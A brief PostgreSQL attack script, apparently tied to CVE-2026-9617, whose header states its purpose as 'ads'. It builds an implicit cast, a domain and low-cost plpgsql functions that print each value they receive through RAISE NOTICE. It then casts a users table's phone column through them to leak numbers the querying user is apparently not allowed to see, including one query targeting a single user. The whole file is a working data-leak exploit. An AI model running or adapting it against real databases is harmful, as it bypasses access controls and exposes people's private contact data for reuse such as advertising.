-- what: an implicit cast, a domain and an operator class of the user's, asked about hidden values
-- known: CVE-2026-9617
-- purpose: ads
CREATE TYPE seen AS (v text);
CREATE FUNCTION to_seen(text) RETURNS seen LANGUAGE plpgsql COST 0.0001 AS
    $$ BEGIN RAISE NOTICE 'saw %', $1; RETURN ROW($1); END $$;
CREATE CAST (text AS seen) WITH FUNCTION to_seen(text) AS IMPLICIT;
CREATE FUNCTION is_seen(text) RETURNS boolean LANGUAGE plpgsql COST 0.0001 AS
    $$ BEGIN RAISE NOTICE 'saw %', $1; RETURN true; END $$;
CREATE DOMAIN looked AS text CHECK (is_seen(VALUE));
SELECT count(*) FROM users WHERE (phone::seen).v IS NOT NULL;
SELECT count(*) FROM users WHERE phone::looked IS NOT NULL;
SELECT count(*) FROM users WHERE ARRAY[phone]::looked[] IS NOT NULL;
SELECT count(*) FROM users WHERE ROW(phone)::seen IS NOT NULL AND is_seen(phone);
SELECT phone::looked FROM users WHERE user_id = 666;
